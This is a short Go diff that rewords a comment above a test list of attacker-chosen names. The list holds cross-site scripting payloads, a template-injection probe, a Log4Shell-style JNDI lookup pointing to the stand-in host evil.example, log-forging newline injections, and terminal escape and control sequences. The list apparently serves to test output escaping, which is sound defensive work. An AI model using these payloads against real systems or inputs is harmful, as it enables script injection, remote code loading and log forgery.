@@ -19,7 +19,7 @@ import (
 )
 
 // hostileNames are names that an attacker could choose. A program that displays such a name may
-// treat it as something else, such as markup or a formula.
+// interpret it, for example as markup or as a formula.
 var hostileNames = []string{
 	"<script>alert(1)</script>", "</textarea><img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "javascript:alert(1)", "{{constructor}}", "${jndi:ldap://evil.example/a}",
 	"line\nbreak", "line\r\n{\"level\":\"ERROR\",\"msg\":\"forged\"}", "\x1b[2J\x1b]0;title\x07", "\x1b[31mred", "back\b\b\b\bspace", "\u2028{\"forged\":1}", "\u202eright-to-left", "nul\x00byte",
